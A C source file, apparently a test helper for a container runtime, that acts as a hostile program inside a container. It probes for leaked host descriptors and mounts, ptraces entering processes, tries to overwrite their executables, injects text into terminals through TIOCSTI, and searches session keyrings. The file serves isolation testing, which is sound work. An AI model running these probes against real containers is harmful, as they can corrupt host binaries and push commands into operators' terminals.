/*
 * attack - what a hostile program in a container tries. Static: it runs in any root file system.
 *
 *   attack own                  its descriptors, working directory and root that lie on a mount which it cannot see
 *   attack watch [trace]        looks at each process that appears, until there is a file /stop: the same of theirs, what
 *                               they execute and whether that can be overwritten; and, with "trace", traces them
 *   attack overwrite FD         overwrites the program that FD was opened from
 *   attack push TEXT            pushes TEXT into every terminal within reach
 *   attack find-key NAME        looks for a key in the session keyring
 *   attack with-key NAME CMD…   has such a key in a session keyring of its own and executes CMD
 *   attack groups               drops all groups
 *   attack count ARG…           how many arguments and variables there are, and the last of them
 *
 * The others say on stdout what they have got hold of, and nothing when that is nothing.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/keyctl.h>
#include <linux/magic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

enum { USAGE = 2, HELD_MAX = 64, LINE = 4096 };

/* ---- Mounts that this process can see --------------------------------------------------------- */

static bool mount_is_ours(unsigned long long id)
{
    char line[LINE];
    FILE *f = fopen("/proc/self/mountinfo", "re");
    bool found = false;

    while (f && !found && fgets(line, sizeof line, f))
        found = strtoull(line, NULL, 10) == id;
    if (f)
        fclose(f);
    return found;
}

/* Pipes, sockets and /dev/null are what a caller hands on. */
static bool is_harmless(const struct stat *st)
{
    return S_ISFIFO(st->st_mode) || S_ISSOCK(st->st_mode) || (S_ISCHR(st->st_mode) && st->st_rdev == makedev(1, 3));
}

static bool is_foreign(int fd)
{
    struct statx sx;
    struct stat st;

    return fstat(fd, &st) == 0 && !is_harmless(&st) && statx(fd, "", AT_EMPTY_PATH, STATX_MNT_ID, &sx) == 0 &&
           !mount_is_ours(sx.stx_mnt_id);
}

/* What a link of /proc leads to, if that is not the container's: a descriptor of it, and a line that says so. */
static int open_foreign(const char *link, const char *kind)
{
    char target[LINE] = "", held[64];
    int fd = open(link, O_PATH | O_CLOEXEC);
    struct statfs fs;

    if (fd < 0 || !is_foreign(fd)) {
        if (fd >= 0)
            close(fd);
        return -1;
    }
    /* By our own descriptor: what is behind the link may have changed meanwhile. */
    snprintf(held, sizeof held, "/proc/self/fd/%d", fd);
    if (readlink(held, target, sizeof target - 1) < 0 || fstatfs(fd, &fs) < 0)
        return fd;
    printf("%s %s of %#lx\n", kind, target, (unsigned long) fs.f_type);
    if (fs.f_type == PROC_SUPER_MAGIC && faccessat(fd, "sys/kernel", F_OK, 0) == 0)
        printf("%s unmasked /proc\n", kind);
    fflush(stdout);
    return fd;
}

static void look_at(const char *process, const char *name)
{
    char link[LINE];
    int fd;

    snprintf(link, sizeof link, "/proc/%s/%s", process, name);
    fd = open_foreign(link, name);
    if (fd >= 0)
        close(fd);
}

static void look_at_descriptors(const char *process)
{
    char path[LINE];
    struct dirent *entry;
    DIR *dir;
    int fd;

    snprintf(path, sizeof path, "/proc/%s/fd", process);
    dir = opendir(path);
    while (dir && (entry = readdir(dir))) {
        if (!isdigit((unsigned char) entry->d_name[0]))
            continue;
        snprintf(path, sizeof path, "/proc/%s/fd/%s", process, entry->d_name);
        fd = open_foreign(path, "fd");
        if (fd >= 0)
            close(fd);
    }
    if (dir)
        closedir(dir);
}

static int cmd_own(char **argv)
{
    (void) argv;
    look_at_descriptors("self");
    look_at("self", "cwd");
    look_at("self", "root");
    look_at("self", "exe");
    return 0;
}

/* ---- The program of others -------------------------------------------------------------------- */

/* What is in memory only is written to; of other files it is enough that they could be. */
static bool can_change(int fd)
{
    struct statfs fs;

    if (fstatfs(fd, &fs) == 0 && fs.f_type != TMPFS_MAGIC)
        return true;
    if (pwrite(fd, "#", 1, 0) == 1 || ftruncate(fd, 0) == 0 ||
        fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, 1) == 0)
        return true;
    return mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED;
}

/* As long as the program runs it is busy; later it is not. */
static void overwrite(int held)
{
    char link[64], target[LINE] = "";
    int fd;

    snprintf(link, sizeof link, "/proc/self/fd/%d", held);
    fd = open(link, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return;
    if (can_change(fd) && readlink(link, target, sizeof target - 1) > 0)
        printf("can overwrite %s\n", target);
    fflush(stdout);
    close(fd);
}

static int cmd_overwrite(char **argv)
{
    int fd = atoi(argv[0]);

    for (int i = 0; is_foreign(fd) && i < 1000; i++)
        overwrite(fd);
    return 0;
}

/* ---- Processes that appear -------------------------------------------------------------------- */

struct watch {
    bool trace;
    int held[HELD_MAX];
    unsigned n;
};

/* The last programs that were seen stay within reach when their processes have ended. */
static void hold_program(struct watch *w, const char *process)
{
    char link[LINE];
    int fd, *slot = &w->held[w->n % HELD_MAX];

    snprintf(link, sizeof link, "/proc/%s/exe", process);
    fd = open_foreign(link, "exe");
    if (fd < 0)
        return;
    overwrite(fd);
    if (w->n++ >= HELD_MAX) {
        overwrite(*slot);
        close(*slot);
    }
    *slot = fd;
}

/* Whom the container's own program may trace is one that executes something of the container. */
static void trace(const char *process)
{
    pid_t pid = atoi(process);
    int status;

    if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0)
        return;
    if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) == 0 && waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
        look_at(process, "exe");
        look_at_descriptors(process);
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
    }
}

static void look_at_process(struct watch *w, const char *process)
{
    look_at_descriptors(process);
    look_at(process, "root");
    look_at(process, "cwd");
    hold_program(w, process);
    if (w->trace)
        trace(process);
}

static int cmd_watch(char **argv)
{
    struct watch w = { .trace = argv[0] && strcmp(argv[0], "trace") == 0 };
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    long last = 0;

    while (proc && access("/stop", F_OK) < 0) {
        rewinddir(proc);
        while ((entry = readdir(proc))) {
            long pid = strtol(entry->d_name, NULL, 10);

            if (pid <= 0 || pid == getpid())
                continue;
            look_at_process(&w, entry->d_name);
            last = pid > last ? pid : last;
        }
    }
    for (unsigned i = 0; i < w.n && i < HELD_MAX; i++)
        overwrite(w.held[i]);
    printf("last %ld\n", last);
    return 0;
}

/* ---- Terminals -------------------------------------------------------------------------------- */

/* By the system call: ioctl(3) of some libraries cuts the request down. */
static bool push_byte(int fd, unsigned long request, const char *byte)
{
    return syscall(SYS_ioctl, fd, request, byte) == 0;
}

static void push(int fd, const char *name, const char *text)
{
    const unsigned long requests[] = { TIOCSTI, TIOCSTI | 1UL << 32, TIOCSTI | 0xffffffff00000000UL };
    const char paste = 3;                               /* TIOCL_PASTESEL */

    for (size_t i = 0; i < sizeof requests / sizeof requests[0]; i++) {
        const char *c = text;

        while (*c && push_byte(fd, requests[i], c))
            c++;
        if (c > text)
            printf("pushed into %s with %#lx\n", name, requests[i]);
    }
    if (push_byte(fd, TIOCLINUX, &paste))
        printf("pasted into %s\n", name);
}

static int cmd_push(char **argv)
{
    static const char *const files[] = { "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1" };

    for (int fd = 0; fd < 16; fd++) {
        char name[16];

        snprintf(name, sizeof name, "%d", fd);
        push(fd, name, argv[0]);
        ioctl(fd, TIOCSCTTY, 1);
        push(fd, name, argv[0]);
    }
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        int fd = open(files[i], O_RDWR | O_NONBLOCK);

        push(fd, files[i], argv[0]);
        close(fd);
    }
    return 0;
}

/* ---- Keys and groups -------------------------------------------------------------------------- */

static int cmd_find_key(char **argv)
{
    if (syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0) > 0 ||
        syscall(SYS_request_key, "user", argv[0], NULL, 0) > 0)
        printf("found %s\n", argv[0]);
    return 0;
}

static int cmd_with_key(char **argv)
{
    if (!argv[1] || syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL) < 0 ||
        syscall(SYS_add_key, "user", argv[0], "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0)
        return USAGE;
    execvp(argv[1], argv + 1);
    return USAGE;
}

static int cmd_groups(char **argv)
{
    (void) argv;
    if (setgroups(0, NULL) == 0)
        printf("dropped all groups\n");
    return 0;
}

static int cmd_count(char **argv)
{
    size_t args = 0, variables = 0;

    while (argv[args])
        args++;
    while (environ[variables])
        variables++;
    if (args == 0 || variables < 2)
        return USAGE;
    printf("%zu %s %zu %s %s\n", args + 2, argv[args - 1], variables, environ[variables - 2], environ[variables - 1]);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        int words;
        int (*run)(char **argv);
    } commands[] = {
        { "own", 0, cmd_own }, { "watch", 0, cmd_watch }, { "overwrite", 1, cmd_overwrite }, { "push", 1, cmd_push },
        { "find-key", 1, cmd_find_key }, { "with-key", 2, cmd_with_key }, { "groups", 0, cmd_groups },
        { "count", 1, cmd_count },
    };

    for (size_t i = 0; argc > 1 && i < sizeof commands / sizeof commands[0]; i++)
        if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].words)
            return commands[i].run(argv + 2);
    fprintf(stderr, "usage: attack own|watch|overwrite|push|find-key|with-key|groups|count ARG…\n");
    return USAGE;
}
